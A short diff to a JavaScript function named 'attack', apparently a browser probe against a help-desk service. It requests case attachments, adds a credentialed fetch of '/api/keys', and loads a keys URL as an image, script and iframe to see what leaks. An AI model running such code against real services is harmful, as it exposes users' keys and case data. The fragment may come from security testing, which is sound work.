@@ -29,6 +29,8 @@ const attack = async () => {
       await note(mode + ' ' + type, () => text(fetch(desk + '/api/cases/' + caseId + '/attachments', sent)));
     }
   }
+  // What the browser sends to our own server below the desk's own paths, that server may send on.
+  await note('own', () => text(fetch('/api/keys', { credentials: 'include' })));
   await loaded(make('img', { src: keys }), 'img');
   await loaded(make('script', { src: keys }), 'script');
   const frame = make('iframe', { src: keys });
